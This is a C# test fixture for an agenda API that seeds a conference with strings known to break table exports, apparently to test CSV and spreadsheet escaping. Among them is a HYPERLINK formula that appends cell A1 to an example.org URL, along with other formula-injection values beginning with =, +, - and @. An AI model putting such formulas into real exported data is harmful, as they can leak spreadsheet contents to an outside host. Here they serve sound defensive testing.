namespace Agenda.Api.Tests.Interchange.Tables;

/// <summary>A conference with everything that tables hold, in texts that tables break on.</summary>
internal static class RichConference
{
    public const string Formula = "=HYPERLINK(\"https://example.org/?\"&A1,\"Click, please\")";

    public static readonly string[] Awkward =
    [
        Formula, "+1", "-2+3", "@SUM(A1)", "＝1", "'=1", "''+1", "'tis", "\"quoted\"", "\"=1\"", "a, b; c", " blanks at the ends ", "👩🏽‍🔬 in the lab", "محمد ‏עברית", "ends with *", "1,5", "TRUE", "001", "2024-01-08", "null",
    ];

    private static readonly string[] BothRooms = ["arbutus-room", "oak-room"];

    public static async Task<Given> MakeAsync(AgendaHost host, string slug)
    {
        var given = await Given.Conference(host, slug);
        await given.Type("MC", "Masterclass");
        await given.Type("KN", "Keynote");
        await given.Track("Learning");
        await given.Organiser.Add($"{given.Path}/rooms", new { name = "Arbutus Room", building = "St. Mary's, \"old\" façade", capacity = 60, order = -5, openingHours = new object[] { new { opens = "08:00", closes = "18:30" }, new { day = "2024-01-09", opens = "09:00", closes = "01:00" } } });
        await given.Organiser.Add($"{given.Path}/rooms", new { name = "+Oak; Room", joinUrl = "https://meet.example.org/oak?a=1,2" });
        await given.Organiser.Add($"{given.Path}/rooms", new { name = "Both", parts = BothRooms, @virtual = true });
        var people = new List<Answer>();
        for (var i = 0; i < Awkward.Length; i++)
            people.Add(await given.Person(Awkward[i], i % 2 == 0 ? "Łódzka" : "O'Neill; <x>", Awkward[^(i + 1)], i == 0 ? "ada@example.org" : null));
        await given.Organiser.Add($"{given.Path}/people", new
        {
            givenName = "Siobhán",
            familyName = "",
            country = "Ireland",
            pronunciation = "shiv-AWN",
            biography = "First line\r\nsecond, \"quoted\"\n\n=third\ttab",
            links = new[] { new { title = "A <b> link; \"x\"", url = "https://example.org/?a=<1>;2" }, new { title = "Other", url = "https://example.org/" } },
            absences = new[] { new { from = "2024-01-08T09:00:00", until = "2024-01-08T18:00:00" }, new { from = "2024-01-10T00:00:00", until = "2024-01-11T00:00:00" } },
        });

        for (var i = 0; i < Awkward.Length; i++)
        {
            var session = await given.Session($"MC-{i}", Awkward[i], i % 2 == 0 ? "MC" : "KN", i % 3 == 0 ? "draft" : "confirmed", new
            {
                track = i % 2 == 0 ? "learning" : null,
                language = i % 3 == 0 ? "pt-BR" : null,
                seats = i == 1 ? 40 : (int?)null,
                @abstract = i == 0 ? string.Concat(Enumerable.Repeat("ä,\"\n=é;\t", 12_500)) : $"{Awkward[i]}\r\n\r\n-{Awkward[^(i + 1)]}\n",
                notes = i == 2 ? "" : Awkward[i],
                joinUrl = i == 3 ? "https://meet.example.org/x" : null,
                chairs = new[] { people[i].Id, people[^(i + 1)].Id },
                discussants = i == 4 ? new[] { people[0].Id } : [],
                resources = new[] { new { title = "Slides, v2 <x>", url = "https://example.org/a" } },
                contributions = new[]
                {
                    new { code = (string?)null, title = Awkward[i], @abstract = (string?)$"{Awkward[i]}\n=1", minutes = (int?)30, authors = new[] { new { person = people[i].Id, presenting = true }, new { person = people[^(i + 1)].Id, presenting = false } } },
                    new { code = (string?)"B+1", title = "Second", @abstract = (string?)null, minutes = (int?)null, authors = new[] { new { person = people[0].Id, presenting = true } } },
                },
            });
            if (i % 2 == 1)
                await given.Placed(session, i % 4 == 1 ? "arbutus-room" : null, $"2024-01-{8 + (i % 3):00}T{9 + (i % 9):00}:30:00", 45 + i);
        }

        return given;
    }
}
